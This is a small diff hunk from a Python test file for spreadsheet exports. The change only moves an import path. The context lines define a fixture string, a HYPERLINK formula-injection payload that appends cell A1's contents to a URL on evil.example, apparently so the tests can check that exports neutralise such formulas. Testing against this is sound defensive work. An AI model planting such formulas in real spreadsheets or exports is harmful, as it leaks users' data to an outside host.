@@ -8,7 +8,7 @@ import openpyxl
 
 from app.models import Role
 from tests.factories import login, make_user
-from tests.integration.test_exports import _export, _results
+from tests.reports.test_exports import _export, _results
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
 
